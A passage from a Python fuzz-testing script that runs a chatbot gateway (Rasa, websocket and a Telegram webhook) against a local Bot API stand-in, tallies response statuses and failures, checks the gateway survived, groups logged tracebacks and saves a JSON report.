            records[-1].append(line)
    groups: dict[tuple[str, str], dict[str, Any]] = {}
    for record in records:
        if not any(line.startswith("Traceback (most recent call last)") for line in record):
            continue
        header = TIMESTAMP.sub("", record[0]).strip()[:200]
        final = next(
            (line for line in reversed(record) if EXCEPTION_LINE.match(line)),
            next((line for line in reversed(record) if line and not line[0].isspace()), ""),
        )
        key = (_normalised(header), _normalised(final[:200]))
        group = groups.setdefault(
            key, {"logged": header, "exception": final[:300], "count": 0, "sample": ""}
        )
        group["count"] += 1
        if not group["sample"]:
            frames = [line.strip() for line in record if line.strip().startswith("File ")]
            ours = [f for f in frames if str(REPO / "bot") in f or str(REPO / "tests") in f]
            shown = list(dict.fromkeys([*ours[-4:], *frames[-3:]]))
            group["sample"] = "\n".join([record[0][:200], *shown, final[:300]])
    ordered = sorted(groups.values(), key=lambda g: -int(g["count"]))
    return {
        "traceback_lines": text.count("Traceback (most recent call last)"),
        "events": sum(int(g["count"]) for g in ordered),
        "groups": ordered,
    }


# --- the stack -------------------------------------------------------------------------


RATE_LIMITS_OFF = {
    "RATE_LIMIT_IP_PER_MINUTE": "1000000",
    "RATE_LIMIT_IP_BURST": "1000000",
    "RATE_LIMIT_VISITOR_PER_MINUTE": "1000000",
    "RATE_LIMIT_VISITOR_BURST": "1000000",
}


@contextlib.contextmanager
def running_stack(
    workdir: Path, *, rasa: bool, standin: BotApiStandIn, secret: str
) -> Iterator[FullStack]:
    """The gateway in Telegram webhook mode against the stand-in, rate limits out of the way."""
    model = rasa_model_path() if rasa else None
    if model is not None and not model.exists():
        raise SystemExit(f"no trained Rasa model at {model}: run `make rasa-model` (or --no-rasa)")
    stack = FullStack(workdir)
    stack.extra_env.update(
        LOG_LEVEL="WARNING",
        TELEGRAM_BOT_TOKEN=standin.token,
        TELEGRAM_API_BASE_URL=standin.base_url,
        TELEGRAM_WEBHOOK_URL=f"{stack.gateway_url}/telegram/webhook",
        TELEGRAM_WEBHOOK_SECRET=secret,
        **RATE_LIMITS_OFF,
    )
    if model is None:
        # Just the gateway: RASA_URL points at a closed port, so every message finds the
        # dialogue down (an honest "temporarily unavailable" reply and a ticket).
        stack.start_gateway("/healthz")
    else:
        stack.start(model)
    try:
        yield stack
    finally:
        stack.stop()


# --- main ------------------------------------------------------------------------------


def table(tally: Tally) -> list[str]:
    lines = [
        f"{'target':<10}{'inputs':>8}{'2xx':>7}{'3xx':>6}{'4xx':>7}{'5xx':>6}{'other':>7}{'failed':>8}"
    ]
    for target in ("api", "ws", "telegram"):
        statuses = tally.statuses.get(target, collections.Counter())
        classes: collections.Counter[str] = collections.Counter()
        for status, n in statuses.items():
            cls = status_class(status)
            classes[cls if cls in {"2xx", "3xx", "4xx", "5xx"} else "other"] += n
        failed = sum(n for key, n in tally.failures.items() if key.startswith(f"{target}:"))
        lines.append(
            f"{target:<10}{sum(statuses.values()):>8}{classes['2xx']:>7}{classes['3xx']:>6}"
            f"{classes['4xx']:>7}{classes['5xx']:>6}{classes['other']:>7}{failed:>8}"
        )
    for target in ("api", "ws", "telegram"):
        statuses = tally.statuses.get(target, collections.Counter())
        shown = ", ".join(f"{s}×{n}" for s, n in sorted(statuses.items()))
        lines.append(f"  {target}: {shown}")
    return lines


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=10_000, help="inputs in total")
    parser.add_argument("--seed", type=int, default=20_260_101)
    parser.add_argument("--concurrency", type=int, default=8)
    parser.add_argument("--timeout", type=float, default=60.0, help="seconds per input")
    parser.add_argument("--no-rasa", action="store_true", help="start only the gateway")
    parser.add_argument(
        "--telegram-drain", type=float, default=600.0, help="seconds to wait for Telegram answers"
    )
    parser.add_argument(
        "--strict-log", action="store_true", help="also fail when the gateway logged tracebacks"
    )
    parser.add_argument("--out", type=Path, default=RESULTS / "fuzz.json")
    args = parser.parse_args()
    rasa = not args.no_rasa
    secret = DEFAULT_SECRET
    cases = generate(args.seed, args.count, secret=secret)
    standin = BotApiStandIn()
    standin.start()
    # The stand-in runs in this process; its own errors on odd chat ids are not the gateway's.
    logging.getLogger("uvicorn.error").setLevel(logging.CRITICAL)
    with (
        tempfile.TemporaryDirectory() as tmp,
        running_stack(Path(tmp), rasa=rasa, standin=standin, secret=secret) as stack,
    ):
        gateway = stack.processes[-1]
        what = "Rasa + actions + gateway" if rasa else "gateway only"
        print(
            f"fuzzing {stack.gateway_url} ({what}) with {len(cases)} inputs, "
            f"seed {args.seed}, concurrency {args.concurrency}"
        )
        step = max(1, len(cases) // 10)
        started = time.monotonic()

        def progress(tally: Tally) -> None:
            if tally.done % step == 0:
                rate = tally.done / max(time.monotonic() - started, 1e-9)
                print(
                    f"  {tally.done:>6}/{len(cases)} inputs  {rate:6.1f}/s  "
                    f"failures {tally.failure_count}",
                    flush=True,
                )

        tally = asyncio.run(
            run_all(
                cases,
                stack.gateway_url,
                concurrency=args.concurrency,
                limit_s=args.timeout,
                progress=progress,
            )
        )
        duration = time.monotonic() - started
        checks = asyncio.run(
            post_checks(
                stack.gateway_url,
                rasa=rasa,
                standin=standin,
                secret=secret,
                telegram_wait_s=args.telegram_drain,
            )
        )
        assert gateway.process is not None
        alive = gateway.process.poll() is None
        checks["gateway_alive"] = {"ok": alive, "returncode": gateway.process.poll()}
        logs = {"gateway": log_tracebacks(gateway.log.read_text(errors="replace"))}
        for other in stack.processes[:-1]:
            logs[other.name] = log_tracebacks(other.log.read_text(errors="replace"))
    standin.stop()

    checks_ok = all(bool(c.get("ok")) for c in checks.values())
    tracebacks = int(logs["gateway"]["events"])
    ok = tally.failure_count == 0 and checks_ok and (not args.strict_log or tracebacks == 0)
    result = {
        "benchmark": "fuzz",
        "mode": "full" if rasa else "no-rasa",
        "seed": args.seed,
        "inputs": len(cases),
        "concurrency": args.concurrency,
        "duration_s": round(duration, 1),
        "inputs_per_second": round(len(cases) / duration, 1),
        "ok": ok,
        "targets": {
            target: {
                "inputs": sum(statuses.values()),
                "statuses": dict(sorted(statuses.items())),
                "failures": sum(n for k, n in tally.failures.items() if k.startswith(f"{target}:")),
            }
            for target, statuses in sorted(tally.statuses.items())
        },
        "kinds": {
            target: {kind: dict(sorted(c.items())) for kind, c in sorted(kinds.items())}
            for target, kinds in sorted(tally.kinds.items())
        },
        "ws_server_frames": dict(tally.ws_frames.most_common()),
        "failures": {
            "count": tally.failure_count,
            "by_target_kind_status": dict(tally.failures.most_common()),
            "examples": tally.examples,
            "setup_failures": tally.setup_failures,
            "transport_errors_right_after_a_5xx": tally.transport_after_5xx,
        },
        "post_checks": checks,
        "logs": logs,
        "machine": describe_machine(),
    }
    print()
    print("\n".join(table(tally)))
    print(f"duration {duration:.1f} s, {len(cases) / duration:.1f} inputs/s")
    print(
        f"failures: {tally.failure_count}"
        + (f" (setup failures {tally.setup_failures})" if tally.setup_failures else "")
    )
    if tally.transport_after_5xx:
        print(f"  ({tally.transport_after_5xx} transport errors came right after a 5xx)")
    for key, n in tally.failures.most_common(15):
        print(f"  {n:>5}  {key}")
    print("post-fuzz checks:")
    for name, check in checks.items():
        extra = check.get("status", check.get("answered_after_s", check.get("error", "")))
        print(f"  {'ok ' if check.get('ok') else 'FAIL'} {name} {extra}")
    print(
        f"gateway log: {tracebacks} tracebacks "
        f"({logs['gateway']['traceback_lines']} 'Traceback' lines)"
    )
    for group in logs["gateway"]["groups"][:12]:
        print(f"  {group['count']:>5}  {group['logged'][:70]}  ->  {group['exception'][:90]}")
    for name, found in logs.items():
        if name != "gateway" and found["events"]:
            print(f"{name} log: {found['events']} tracebacks")
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(result, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    print(saved(args.out))
    print("PASS" if ok else "FAIL")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
